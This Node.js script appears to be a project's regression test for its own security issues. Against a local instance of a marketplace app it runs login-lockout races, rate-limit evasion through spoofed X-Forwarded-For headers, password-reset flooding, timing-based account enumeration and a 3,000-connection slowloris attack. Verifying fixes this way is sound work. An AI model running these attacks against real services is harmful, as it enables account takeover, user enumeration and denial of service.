import { readdir, readFile } from 'node:fs/promises';
import { connect } from 'node:net';
/**
 * Reruns the attacks of issue 14 items 1, 2, 3, 6 and 9 against a running all-in-one marketplace
 * over HTTP, and prints the figures. Start one on an empty data folder, behind "one proxy" so each
 * request can claim its client address:
 *
 *   RUEDAS_DATA_DIR=/tmp/attack PORT=18414 RUEDAS_DEMO_DATA=off RUEDAS_TRUSTED_PROXY_HOPS=1 npm run serve -w @ruedas/infra
 *   node scripts/attacks/issue-14-accounts.mjs [all|1|2|3|6|9]
 *
 * ATTACK_URL (default http://127.0.0.1:18414) and ATTACK_MAIL_DIR (default /tmp/attack/mail) change
 * the target. Section 9 opens 3,000 connections and takes 45 s.
 */
const BASE = process.env.ATTACK_URL ?? 'http://127.0.0.1:18414';
const MAIL = process.env.ATTACK_MAIL_DIR ?? '/tmp/attack/mail';
const PORT = Number(new URL(BASE).port || 80);
const HOST = new URL(BASE).hostname;
const PASSWORD = 'Cielo-Azul-2025';
let n = 0;
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function gql(query, variables, xff, extra = {}) {
  const res = await fetch(`${BASE}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': xff, ...extra },
    body: JSON.stringify({ query, variables }),
  });
  return { status: res.status, retryAfter: res.headers.get('retry-after'), nosniff: res.headers.get('x-content-type-options'), body: await res.json() };
}
async function rest(method, path, body, xff, extra = {}) {
  const res = await fetch(`${BASE}/api/v1${path}`, {
    method,
    headers: { ...(body ? { 'content-type': 'application/json' } : {}), 'x-forwarded-for': xff, ...extra },
    body: body ? JSON.stringify(body) : undefined,
  });
  return {
    status: res.status,
    retryAfter: res.headers.get('retry-after'),
    nosniff: res.headers.get('x-content-type-options'),
    body: await res.json().catch(() => null),
  };
}
async function mails(to) {
  const names = (await readdir(MAIL)).filter((f) => f.endsWith('.json'));
  const all = await Promise.all(names.map(async (f) => JSON.parse(await readFile(`${MAIL}/${f}`, 'utf8'))));
  return all.filter((m) => m.to === to).sort((a, b) => a.sentAt.localeCompare(b.sentAt));
}
async function waitMail(to, pattern, count = 1) {
  for (let i = 0; i < 100; i++) {
    const found = (await mails(to)).filter((m) => pattern.test(m.text));
    if (found.length >= count) return found;
    await sleep(100);
  }
  return (await mails(to)).filter((m) => pattern.test(m.text));
}
const REGISTER = 'mutation R($input: RegistrationInput!) { register(input: $input) }';
const input = (email) => ({
  userType: 'PERSON',
  name: 'Ana',
  lastName: 'Mora',
  email,
  password: PASSWORD,
  passwordConfirm: PASSWORD,
  phoneList: [{ phone: '8888-1234' }],
  language: 'es',
  province: '1',
  canton: '101',
  district: '10101',
  agreement: true,
});
async function user() {
  n += 1;
  const email = `victim${n}-${Date.now()}@example.com`;
  const r = await gql(REGISTER, { input: input(email) }, `10.250.${n % 250}.1`);
  if (r.status !== 200 || r.body.errors) throw new Error(JSON.stringify(r.body));
  const [mail] = await waitMail(email, /accountConfirmed/);
  const link = /accountConfirmed\/(\S+)/.exec(mail.text)[1];
  await rest('POST', '/users/accountConfirm', { link }, `10.251.${n % 250}.1`);
  return email;
}
const tally = (list) => list.reduce((acc, v) => ((acc[v] = (acc[v] ?? 0) + 1), acc), {});
const median = (v) => [...v].sort((a, b) => a - b)[Math.floor(v.length / 2)];

const section = process.argv[2] ?? 'all';
if (section === 'all' || section === '1') {
  console.log('# item 1: lockout race (REST logins in parallel, each from its own address)');
  for (const [size, right] of [
    [30, 15],
    [60, 55],
    [100, 95],
  ]) {
    const email = await user();
    const answers = await Promise.all(
      Array.from({ length: size }, (_, i) =>
        rest('POST', '/users/login', { email, password: i + 1 === right ? PASSWORD : 'Wrong-Pass-1' }, `10.1.${size}.${i}`),
      ),
    );
    const tokens = answers.filter((a) => a.body?.token).length;
    const after = await rest('POST', '/users/login', { email, password: PASSWORD }, '10.1.0.250');
    console.log(
      `burst ${size}, right at #${right}: tokens ${tokens}; statuses ${JSON.stringify(tally(answers.map((a) => a.status)))}; right password ` +
        `afterwards: ${after.status} ${after.body?.code ?? ''}`,
    );
  }
}
if (section === 'all' || section === '2') {
  console.log('# item 2: throttling from one address');
  const email = await user();
  const one = [];
  for (let i = 0; i < 60; i++) one.push(await rest('POST', '/users/login', { email, password: 'Wrong-Pass-1' }, '203.0.113.10'));
  console.log(
    `60 wrong logins for one account: ${JSON.stringify(tally(one.map((a) => a.status)))}; first 429: Retry-After ` +
      `${one.find((a) => a.status === 429)?.retryAfter} "${one.find((a) => a.status === 429)?.body?.message}"`,
  );
  const spread = [];
  for (let i = 0; i < 60; i++)
    spread.push(
      await rest('POST', '/users/login', { email: `spray${i}-${Date.now()}@example.com`, password: 'Wrong-Pass-1' }, '203.0.113.11', {
        'accept-language': 'en',
      }),
    );
  console.log(
    `60 wrong logins for 60 e-mails: ${JSON.stringify(tally(spread.map((a) => a.status)))}; Retry-After ` +
      `${spread.find((a) => a.status === 429)?.retryAfter} "${spread.find((a) => a.status === 429)?.body?.message}"`,
  );
  const regs = await Promise.all(Array.from({ length: 30 }, (_, i) => gql(REGISTER, { input: input(`reg${i}-${Date.now()}@example.com`) }, '203.0.113.12')));
  console.log(
    `30 registrations (parallel, GraphQL): ${JSON.stringify(tally(regs.map((a) => a.status)))}; Retry-After ` +
      `${regs.find((a) => a.status === 429)?.retryAfter}; "${regs.find((a) => a.status === 429)?.body?.errors?.[0]?.message}"`,
  );
}
if (section === 'all' || section === '3') {
  console.log("# item 3: blocking a victim's reset");
  const email = await user();
  const attacker = [];
  for (let i = 0; i < 3; i++) attacker.push(await rest('POST', `/users/passwordResetGenerateEmail/${encodeURIComponent(email)}/es`, null, '198.51.100.66'));
  const burst = await Promise.all(
    Array.from({ length: 20 }, () => rest('POST', `/users/passwordResetGenerateEmail/${encodeURIComponent(email)}/es`, null, '198.51.100.66')),
  );
  const own = await rest('POST', `/users/passwordResetGenerateEmail/${encodeURIComponent(email)}/es`, null, '192.0.2.200');
  await sleep(1500);
  const links = (await mails(email)).filter((m) => /passwordReset\//.test(m.text)).map((m) => /passwordReset\/(\S+)/.exec(m.text)[1]);
  const oldest = await rest('POST', '/users/passwordReset', { token: links[0], password: 'Nuevo-Cielo-2026' }, '192.0.2.200');
  const login = await rest('POST', '/users/login', { email, password: 'Nuevo-Cielo-2026' }, '192.0.2.200');
  console.log(
    `attacker: 3 requests ${JSON.stringify(tally(attacker.map((a) => a.status)))} + burst of 20 ${JSON.stringify(tally(burst.map((a) => a.status)))}; ` +
      `owner's request: ${own.status} ${JSON.stringify(own.body)}; reset mails in the mailbox: ${links.length}; the oldest link resets: ` +
      `${oldest.status}; sign-in with the new password: ${login.status}`,
  );
}
if (section === 'all' || section === '6') {
  console.log('# item 6: enumeration');
  const email = await user();
  const taken = await gql(REGISTER, { input: input(email.toUpperCase()) }, '10.6.0.1');
  const fresh = await gql(REGISTER, { input: input(`new-${Date.now()}@example.com`) }, '10.6.0.2');
  const notice = await waitMail(email, /forgotPassword/);
  console.log(
    `register taken: ${taken.status} ${JSON.stringify(taken.body)}; new: ${fresh.status} ${JSON.stringify(fresh.body)}; owner mailed: "${notice[0]?.subject}"`,
  );
  const samples = { known: [], unknown: [] };
  for (let i = 0; i < 150; i++) {
    for (const kind of ['known', 'unknown']) {
      const target = kind === 'known' ? email : `nobody${i}-${Date.now()}@example.com`;
      const start = performance.now();
      const r = await rest('POST', `/users/passwordResetGenerateEmail/${encodeURIComponent(target)}/es`, null, `10.66.${i}.${kind === 'known' ? 1 : 2}`);
      samples[kind].push(performance.now() - start);
      if (r.status !== 200) console.log('unexpected', r.status);
    }
    await sleep(20);
  }
  console.log(
    `reset request medians (150 each, interleaved): existing ${median(samples.known).toFixed(1)} ms, unknown ${median(samples.unknown).toFixed(1)} ms`,
  );
  const runLock = async (target) => {
    const out = [];
    for (let i = 0; i < 7; i++) {
      const r = await rest('POST', '/users/login', { email: target, password: 'Wrong-Pass-1' }, `10.67.${i}.9`);
      out.push(`${r.status}/${r.body?.code}`);
    }
    return out.join(' ');
  };
  const lockedUser = await user();
  console.log(`7 wrong logins, existing: ${await runLock(lockedUser)}`);
  console.log(`7 wrong logins, unknown:  ${await runLock(`ghost-${Date.now()}@example.com`)}`);
}
if (section === 'all' || section === '9') {
  console.log('# item 9: slow clients and headers');
  const sockets = [];
  let closed = 0;
  const opened = Date.now();
  const closedAt = [];
  for (let i = 0; i < 3000; i++) {
    const s = connect(PORT, HOST);
    s.on('error', () => undefined);
    s.on('close', () => {
      closed += 1;
      closedAt.push(Date.now() - opened);
    });
    s.on('connect', () => {
      s.write('POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"query":"');
      const t = setInterval(() => (s.destroyed ? clearInterval(t) : s.write('a')), 1000);
      s.on('close', () => clearInterval(t));
    });
    sockets.push(s);
  }
  await sleep(20_000);
  console.log(`3000 slow-body connections: still open after 20 s: ${3000 - closed}`);
  await sleep(25_000);
  console.log(`still open after 45 s: ${3000 - closed}; median close at ${(median(closedAt) / 1000).toFixed(1)} s`);
  for (const s of sockets) s.destroy();
  const g = await gql('{ __typename }', {}, '10.9.9.9');
  const r = await rest('GET', '/users/sellerInfo/nobody', null, '10.9.9.9');
  const h = await fetch(`${BASE}/health`);
  console.log(`nosniff: /graphql ${g.nosniff}, /api/v1 error ${r.status} ${r.nosniff}, /health ${h.headers.get('x-content-type-options')}`);
}
